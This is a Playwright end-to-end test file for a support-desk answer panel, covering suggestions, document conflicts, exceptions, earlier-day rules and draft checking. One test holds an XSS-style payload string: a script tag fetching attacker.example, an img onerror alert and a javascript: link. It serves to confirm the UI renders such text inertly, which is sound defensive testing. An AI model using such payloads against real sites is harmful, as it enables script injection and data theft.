"""What stands around an answer on the practice desk: suggestions, conflicts, exceptions, other days, and the draft."""

import json
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, Route, expect

from tests.end_to_end.accessibility import assert_accessible
from tests.end_to_end.demo import Demo
from tests.end_to_end.panel import Panel
from tests.end_to_end.screenshots import SCHEMES, shoot
from tests.end_to_end.watching import Watch

OpenAs = Callable[[str, str], Page]
TICKET = "/desk/LF-4101"
HOSTILE = (
    '![x](https://attacker.example/a.png) <img src="https://attacker.example/b.png" onerror="alert(1)">'
    "<script>fetch('https://attacker.example/c')</script> [click](javascript:alert(2)) https://attacker.example/d"
)


@pytest.fixture
def panel(open_as: OpenAs, demo: Demo) -> Panel:
    return Panel(open_as("Jo Abara", TICKET), demo)


def keeps_nobody_out(page: Page, where: str) -> None:
    for scheme in SCHEMES:
        page.emulate_media(color_scheme=scheme)
        assert_accessible(page, f"{where}, {scheme}")
    page.emulate_media(color_scheme="light")


def test_an_opened_ticket_suggests_its_needs_and_one_click_opens_one(panel: Panel) -> None:
    needs = panel.root.locator(".ds-need")
    expect(needs.first).to_be_visible()
    label = needs.first.locator(".ds-need-label").inner_text()
    shoot(panel.page, "desk-suggestions")
    keeps_nobody_out(panel.page, "suggestions")

    needs.first.click()

    expect(panel.last.get_by_role("heading", name="Sources")).to_be_visible()
    assert label
    shoot(panel.page, "desk-suggestion-opened")


def test_documents_that_disagree_stand_side_by_side(panel: Panel) -> None:
    answer = panel.ask("how much goodwill may I give without asking anyone")

    (conflict,) = answer["conflicts"]
    card = panel.last.get_by_role("heading", name="The documents disagree").locator("..")
    expect(card).to_contain_text(conflict["left"]["title"])
    expect(card).to_contain_text(conflict["right"]["title"])
    shoot(panel.page, "desk-conflict")
    keeps_nobody_out(panel.page, "conflict")


def test_an_exception_says_until_when_it_holds(panel: Panel) -> None:
    answer = panel.ask("what is the charge if a customer cancels a heat pump installation because of an ice warning?")

    exception = next(citation for citation in answer["citations"] if citation["is_exception"])
    line = panel.last.locator(".ds-exception").first
    expect(line).to_contain_text("Exception in force until")
    expect(line).to_contain_text(exception["title"])
    shoot(panel.page, "desk-exception")
    keeps_nobody_out(panel.page, "exception")


def test_an_answer_of_an_earlier_day_stands_beside_todays(open_as: OpenAs, demo: Demo) -> None:
    panel = Panel(open_as("Jo Abara", "/desk/LF-4114"), demo)
    panel.root.get_by_role("button", name="Order date 11 Feb 2025").click()

    answer = panel.ask("What does the hazardous goods collection for a Vault cost in the UK?")

    assert "£35" in answer["text"]
    assert "£45" in answer["today"]["text"]
    card = panel.last.get_by_role("heading", name="Today's rule is another one").locator("..")
    expect(card).to_contain_text("£45")
    shoot(panel.page, "desk-today")
    keeps_nobody_out(panel.page, "today")


def test_a_draft_is_held_against_the_documents(panel: Panel) -> None:
    reply = panel.page.get_by_label("Your reply to")
    reply.fill("Dear Harriet, a return number is valid for 45 days. Kind regards, Jo")

    panel.root.get_by_role("button", name="Check my draft").click()

    draft = panel.root.locator(".ds-draft")
    expect(draft.get_by_text("Contradicted")).to_be_visible()
    expect(draft).to_contain_text("14 days")
    shoot(panel.page, "desk-draft-check")
    keeps_nobody_out(panel.page, "draft check")
    draft.get_by_role("button", name="Close the check").click()
    expect(draft).to_have_count(0)


def test_an_empty_draft_is_not_checked(panel: Panel) -> None:
    panel.root.get_by_role("button", name="Check my draft").click()

    expect(panel.root.get_by_text("The reply box is empty: write the reply first.")).to_be_visible()


def test_what_a_hostile_answer_says_is_text_and_asks_nobody_for_anything(panel: Panel, watch: Watch) -> None:
    answer = panel.ask("what does a return label cost in the UK?")
    citation = answer["citations"][0] | {"title": HOSTILE, "quote": HOSTILE, "url": "https://attacker.example/e"}
    hostile = answer | {
        "text": HOSTILE,
        "sentences": [{"text": HOSTILE, "citations": [1], "is_internal": False}],
        "citations": [citation],
        "conflicts": [{"says": HOSTILE, "left": citation, "right": citation}],
        "suspicious": [citation],
        "notices": [HOSTILE],
        "missing": [HOSTILE],
        "lesson": None,
    }
    events = f"event: done\ndata: {json.dumps(hostile)}\n\n"
    panel.page.route("**/v1/answers", lambda route: _say(route, events))
    panel.box.fill("and again?")
    panel.box.press("Enter")

    expect(panel.last.get_by_text("onerror").first).to_be_visible()
    assert panel.last.locator("img, script, iframe, a").count() == 0
    shoot(panel.page, "desk-hostile")
    panel.last.get_by_role("button", name="Source 1").first.click()
    assert watch.foreign_requests() == []
    assert len(panel.page.context.pages) == 1


def _say(route: Route, events: str) -> None:
    route.fulfill(status=200, content_type="text/event-stream", body=events)
